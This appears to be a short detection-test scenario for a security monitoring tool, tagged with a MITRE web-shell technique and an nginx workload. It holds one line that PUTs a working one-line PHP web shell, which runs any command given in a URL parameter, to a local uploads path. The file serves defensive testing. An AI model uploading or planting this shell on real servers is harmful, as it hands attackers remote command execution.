# title: a web shell is uploaded
# attack: T1505.003
# workload: nginx
# through: http
# shows: file create /srv/uploads/shell.php by nginx
PUT http://127.0.0.1/uploads/shell.php <?php system($_GET[0]);
